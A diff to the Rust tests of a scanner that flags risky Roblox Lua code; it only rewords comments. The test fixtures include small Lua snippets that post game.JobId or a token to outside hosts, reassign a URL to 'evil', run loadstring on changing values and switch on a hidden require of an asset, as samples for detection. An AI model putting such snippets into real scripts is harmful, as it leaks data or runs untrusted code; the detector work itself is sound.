@@ -1,10 +1,10 @@
-//! What is said of scripts and names, and what is passed over: each kind once, and its harmless neighbour.
+//! Tests of the scan: one case for each kind of finding, and a similar harmless one.
 
 mod following;
 
 use super::*;
 
-/// What is said of a script, without the lines.
+/// The messages of a script's findings, without line numbers.
 fn said(source: &str) -> Vec<String> {
     let sentence = |it: &ScanFinding| format!("{}.", it.message);
     scan_script(source).iter().map(sentence).collect()
@@ -19,7 +19,7 @@ fn check(source: &str, expected: &[&str]) {
     assert_eq!(said(source), expected, "{source}");
 }
 
-/// One sentence, with these words in it.
+/// Expects a single finding whose message contains `words`.
 #[track_caller]
 fn names(source: &str, words: &str) {
     let said = said(source);
@@ -111,7 +111,7 @@ fn usual_hosts_and_data_stores_are_no_news() {
     ] {
         check(source, &[]);
     }
-    // What looks usual may be another's by the time it is used.
+    // An address that looks usual may be changed before it is used.
     let url = "local URL = \"https://apis.roblox.com/x\"\n";
     for source in
         ["URL = evil\nhttp:PostAsync(URL, x)", "for _, URL in t do http:PostAsync(URL) end"]
@@ -238,7 +238,7 @@ fn only_what_a_change_adds_is_new() {
     check_change(old, "\n\nlocal env = getfenv()\nprint(2)", &[]);
     let second = "Line 3 uses getfenv, which reaches into the environment of other code.";
     check_change(old, "local env = getfenv()\nprint(1)\ngetfenv().x = 1", &[second]);
-    // Another host is another thing, also in the same line.
+    // A different host is a new finding, even on the same line.
     let post = |host: &str| format!("http:PostAsync(\"https://{host}/\", x)");
     assert_eq!(scan_change(&post("a.example"), &post("b.example")).len(), 1);
 }
@@ -248,7 +248,7 @@ fn a_change_within_flagged_code_is_new() {
     let run = "Line 1 uses loadstring, which runs text as code.";
     check_change("loadstring('print(1)')()", "loadstring(game.X.Value)()", &[run]);
     check_change("loadstring('print(1)')()", "loadstring( \"print(1)\" ) (  ) -- a", &[]);
-    // What it is given, where it stands in another statement.
+    // A changed argument that is defined in another statement.
     let run = "Line 2 uses loadstring, which runs text as code.";
     check_change("local t = 'a'\nloadstring(t)()", "local t = x.Value\nloadstring(t)()", &[run]);
     check_change(
@@ -266,16 +266,16 @@ fn a_change_within_flagged_code_is_new() {
     };
     let found = second("game.JobId");
     assert!(found.len() == 1 && found[0].to_string().starts_with(call), "{found:?}");
-    // The function sends to others from now on.
+    // The function now sends to another recipient.
     assert_eq!(change(&[sends, first].concat(), &[sends, first, "send(URL, 1)"].concat()).len(), 1);
     let payload = "local p = {}\np.a = 1\nhttp:PostAsync(\"https://a.example/\", p)";
     assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = token")).len(), 1);
     assert_eq!(change(payload, &payload.replace("p.a = 1", "p.a = 1 -- one")), []);
-    // A condition that holds from now on.
+    // A condition that is now true.
     let off = "if false then\n\trequire(123456)\nend";
     assert_eq!(change(off, &off.replace("false", "true")).len(), 1);
     assert_eq!(change(off, &off.replace("end", "end print(1)")), []);
-    // A new call, without a change of the function.
+    // A new call of an unchanged function.
     let leak = "local function leak()\n\thttp:PostAsync(URL, game.JobId)\nend\n";
     check_change(
         leak,
@@ -373,7 +373,7 @@ fn what_cannot_be_read_is_said() {
     names("-- a\rrequire(123456)", "requires the asset 123456");
 }
 
-/// Everything is evaluated at most once, whatever hangs on it.
+/// Every expression is evaluated at most once, regardless of what depends on it.
 #[test]
 fn it_ends_on_all_that_hangs_on_itself() {
     let work = || {
